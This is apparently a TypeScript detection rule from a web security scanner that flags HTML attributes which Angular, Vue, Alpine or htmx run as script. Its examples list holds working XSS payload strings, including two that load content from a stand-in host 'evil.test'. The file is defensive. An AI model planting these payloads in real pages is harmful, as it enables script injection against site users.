import { html } from '../../grammars/html/html.ts';
import type { HtmlAttribute, HtmlTag } from '../../grammars/html/html-tags.ts';
import { isForeignUrl, plainValue, squeeze } from '../../grammars/html/markup.ts';
import { scriptPieces, strongestScript } from '../../grammars/script/script-pieces.ts';
import { confidence } from '../../placement/confidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { charClass } from '../../text/char-class.ts';
import { wordList, wordSet } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** `<a @click="…">`, `<x ng-init=…>`: attributes that a client-side framework runs as script. */
export const clientDirective: ValueRule = {
  id: 'xss.client-directive',
  score: confidence.strong,
  message: 'gives a client-side framework an attribute that it runs as script',
  trigger: {
    classes: charClass.less | charClass.equals,
    literals: [
      [
        'ng-',
        'ng:',
        'v-',
        ' @',
        '/@',
        '"@',
        ' :',
        ...wordList('x- hx-on data-bind (click hx- is= data-remote'),
      ],
    ],
  },
  judge: judgeDirective,
  examples: [
    '<div ng-app><input ng-focus=$event.view.alert(1)></div>',
    `<x @click="_c.constructor('go()')()">hi</x>`,
    '<div x-data x-init="alert(1)"></div>',
    '<p v-on:click="eval(name)">',
    '<component is=script src=//evil.test></component>',
    '<div hx-get="//evil.test/x" hx-trigger=load></div>',
  ],
  lookalikes: [
    '<li v-for="item in items" :key="item.id">{{ item.name }}</li>',
    '<button @click="save(item)" :disabled="busy">Save</button>',
    '<div x-data="{ open: false }" ng-class="{active: on}">x</div>',
    '<p data-x-ray="alert">mail x @home = office</p>',
    '<button hx-post="/clicked" hx-swap="outerHTML">Go</button><component :is="tab"></component>',
  ],
};

/** A shorter value calls nothing. */
const scriptCharsMin = 5;

const prefixes = ['ng-', 'ng:', 'data-ng', 'x-ng', 'v-', '@', ':', 'x-', 'hx-on', 'data-bind', '('];

function judgeDirective(subject: Subject): Match | undefined {
  for (const tag of subject.tokens(html).tags) {
    const loader = loaderOf(subject.text, tag);
    if (loader > 0) return { start: tag.start, end: tag.end, score: loader };
    for (const attribute of tag.attributes) {
      if (attribute.valueEnd - attribute.valueStart < scriptCharsMin) continue;
      if (!isDirective(attribute)) continue;
      const tokens = subject.tokens(scriptPieces);
      const evidence = strongestScript(tokens, attribute.valueStart, attribute.valueEnd);
      if (evidence.strength < 3) continue;
      return { start: attribute.start, end: attribute.valueEnd, score: confidence.strong };
    }
  }
  return undefined;
}

/** Directives that load a page or script of another site, or turn an element into a script. */
function loaderOf(text: string, tag: HtmlTag): number {
  for (const { name, valueStart, valueEnd } of tag.attributes) {
    if (valueEnd - valueStart < 4) continue;
    if (name === 'is' || name === ':is' || name === 'v-bind:is') {
      if (squeeze(text, valueStart, valueEnd).startsWith('script')) return confidence.strong;
    } else if (requests.has(name) && isForeignUrl(squeeze(text, valueStart, valueEnd)))
      return confidence.likely;
  }
  const isRemote = plainValue(text, tag, 'data-remote') === 'true';
  const isScript = isRemote && plainValue(text, tag, 'data-type') === 'script';
  return isScript && isForeignUrl(plainValue(text, tag, 'href')) ? confidence.strong : 0;
}

const requests: ReadonlySet<string> = wordSet(
  'hx-get hx-post hx-put hx-delete hx-patch data-hx-get data-hx-post ng-include',
  'data-ng-include ng-src-doc',
);

function isDirective(attribute: HtmlAttribute): boolean {
  return prefixes.some((prefix) => attribute.name.startsWith(prefix));
}
